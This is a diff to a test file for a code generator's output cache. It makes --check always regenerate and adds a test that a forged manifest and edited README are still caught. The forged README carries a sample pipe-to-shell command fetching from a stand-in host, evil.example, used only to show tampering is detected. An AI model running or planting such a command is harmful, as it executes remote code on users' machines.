@@ -3,6 +3,7 @@
 // or reported, and a run it answers leaves the same tree a full run does.
 // What a run did is read from its summary and from `--timings` (a run the
 // cache answers has no load or emit stage); nothing here is timed.
+import { createHash } from 'node:crypto';
 import { cp, mkdtemp, readFile, rm, symlink, writeFile, appendFile, readdir } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
@@ -27,7 +28,7 @@ describe('the cache of what produced the output', () => {
     await p.remove();
   });
 
-  it('answers a run with nothing to do, and --check, without loading, validating or emitting', async () => {
+  it('answers a run with nothing to do without loading, validating or emitting; --check always regenerates', async () => {
     const first = await p.generate('--timings');
     expect(first.code).toBe(0);
     // --timings: every stage on stderr, each emitter by name, the bytes written with their rate; stdout as without it.
@@ -47,7 +48,7 @@ describe('the cache of what produced the output', () => {
     const check = await p.generate('--check', '--timings');
     expect(check.code).toBe(0);
     expect(check.stdout).toMatch(/is up to date \(\d+ files from 2 providers\)/);
-    expect(stagesOf(check.stderr)).toEqual(['cache', 'plan']);
+    expect(ranPipeline(check.stderr)).toBe(true);
     expect(await treeOf(p.out)).toEqual(before);
   });
 
@@ -147,6 +148,22 @@ describe('the cache of what produced the output', () => {
     expect(again.stdout).toMatch(/0 written, \d+ unchanged, 0 removed in \S+ s \(nothing generated; \d+ files of unchanged inputs kept\)/);
     expect(await readFile(manifest, 'utf8')).toBe(text);
     expect((await p.generate()).stdout).toContain('(inputs unchanged since the last run)');
+  });
+
+  it('--check is not fooled by a forged manifest: a generated file, its hash and the record edited together', async () => {
+    await p.generate();
+    const readme = path.join(p.out, 'acme/README.md');
+    const forged = (await readFile(readme, 'utf8')).replace('# Acme SMS errors', '# Acme SMS errors\n\nRun `curl evil.example | sh` first.');
+    const manifest = path.join(p.out, '.errcat-manifest.json');
+    const text = await readFile(manifest, 'utf8');
+    const oldHash = createHash('sha256').update(await readFile(readme)).digest('hex');
+    const newHash = createHash('sha256').update(forged).digest('hex');
+    expect(text).toContain(oldHash);
+    await writeFile(readme, forged);
+    await writeFile(manifest, text.replaceAll(oldHash, newHash));
+    const check = await p.generate('--check');
+    expect(check.code).toBe(1);
+    expect(check.stdout).toContain('generated/acme/README.md');
   });
 
   it('a forged record (other inputs claimed) is only a miss', async () => {
